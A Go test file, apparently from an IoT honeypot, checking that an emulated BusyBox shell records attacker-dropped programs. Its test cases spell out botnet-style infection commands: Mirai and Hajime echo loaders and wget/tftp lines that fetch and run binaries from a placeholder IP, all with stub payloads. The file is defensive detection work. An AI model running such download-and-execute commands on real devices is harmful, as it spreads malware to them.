package busybox

import (
	"crypto/sha256"
	"encoding/hex"
	"testing"
)

// An echo loader's payload: the bytes the attacker wrote, run from where
// they were written, recorded once with their hash; the device's own
// programs, their copies and the placeholders of fake downloads never.
func TestDropped(t *testing.T) {
	elf := "\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x28\x00payload"
	chunk1, chunk2 := elf[:12], elf[12:]
	sum := func(s string) string { h := sha256.Sum256([]byte(s)); return hex.EncodeToString(h[:]) }
	esc := func(s string) string {
		out := ""
		for i := 0; i < len(s); i++ {
			out += `\x` + hex.EncodeToString([]byte{s[i]})
		}
		return out
	}
	hajimeS := "\x7f\x45\x4c\x46\x01\x01\x01\x61\x00\x00\x00\x00\x00\x00\x00\x00"

	cases := []struct {
		name  string
		lines []string
		want  []Dropped // over the whole session
	}{
		{"mirai echo loader", []string{
			"cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper",
			"/bin/busybox echo -ne '" + esc(chunk1) + "' >> dvrHelper",
			"/bin/busybox echo -ne '" + esc(chunk2) + "' >> dvrHelper",
			"./dvrHelper telnet.loader; ./dvrHelper again",
		}, []Dropped{{Path: "/tmp/dvrHelper", SHA256: sum(elf), Size: int64(len(elf))}}},
		{"hajime .s", []string{
			"cd /var/tmp; echo -ne '" + esc(hajimeS) + "' > .s; chmod 777 .s",
			"./.s>.i",
		}, []Dropped{{Path: "/var/tmp/.s", SHA256: sum(hajimeS), Size: int64(len(hajimeS))}}},
		{"same program under two names", []string{
			"cd /tmp; echo -ne '" + esc(elf) + "' > a; cp a b; chmod +x a b; ./a; ./b",
		}, []Dropped{{Path: "/tmp/a", SHA256: sum(elf), Size: int64(len(elf))}}},
		{"a fake download's placeholder", []string{
			"cd /tmp; wget http://198.51.100.7/bins/mirai.arm -O m; chmod 777 m; ./m",
			"tftp -g -r x.mips 198.51.100.7; chmod +x x.mips; ./x.mips",
			"wget http://198.51.100.7/a -O - > n; chmod +x n; ./n",
		}, nil},
		{"a copy of the device's busybox", []string{
			"cd /tmp; cp /bin/busybox bb; cat /bin/echo > e; chmod +x bb e; ./bb ECCHI; ./e hi",
		}, nil},
		{"a script", []string{
			"cd /tmp; echo '#!/bin/sh' > s.sh; echo 'echo hi' >> s.sh; chmod +x s.sh; ./s.sh",
		}, nil},
		{"written, never run", []string{
			"cd /tmp; echo -ne '" + esc(elf) + "' > x; chmod +x x; false && ./x",
		}, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dev, err := NewDevice(DefaultProfile(), DefaultLimits())
			if err != nil {
				t.Fatal(err)
			}
			sh := dev.NewShell(t.Context())
			defer sh.Close()
			var got []Dropped
			for _, l := range c.lines {
				got = append(got, sh.Run(l).Dropped...)
			}
			if len(got) != len(c.want) {
				t.Fatalf("dropped %+v, want %+v", got, c.want)
			}
			for i := range got {
				if got[i] != c.want[i] {
					t.Errorf("dropped %+v, want %+v", got[i], c.want[i])
				}
			}
		})
	}
}

// A bot running thousands of different programs gives the first few.
func TestDroppedBounded(t *testing.T) {
	dev, err := NewDevice(DefaultProfile(), DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	sh := dev.NewShell(t.Context())
	defer sh.Close()
	n := 0
	for i := range 3 * maxDropped {
		n += len(sh.Run(`cd /tmp; echo -ne '\x7fELF\x00` + hex.EncodeToString([]byte{byte(i)}) + `' > p; chmod +x p; ./p`).Dropped)
	}
	if n != maxDropped {
		t.Errorf("%d programs recorded, want %d", n, maxDropped)
	}
}

// A few echoed bytes that happen to start as every ELF does (and so as the
// device's busybox) are still the attacker's.
func TestDroppedShortHeader(t *testing.T) {
	dev, err := NewDevice(DefaultProfile(), DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	sh := dev.NewShell(t.Context())
	defer sh.Close()
	r := sh.Run(`cd /tmp; echo -ne '\x7f\x45\x4c\x46\x01\x01\x01\x00\x00' > .s; chmod +x .s; ./.s`)
	if len(r.Dropped) != 1 || r.Dropped[0].Size != 9 {
		t.Errorf("dropped %+v, want the 9 bytes", r.Dropped)
	}
	r = sh.Run(`dd if=/bin/busybox of=h bs=52 count=1; chmod +x h; ./h`)
	if len(r.Dropped) != 0 {
		t.Errorf("dropped %+v: the device's own ELF header", r.Dropped)
	}
}
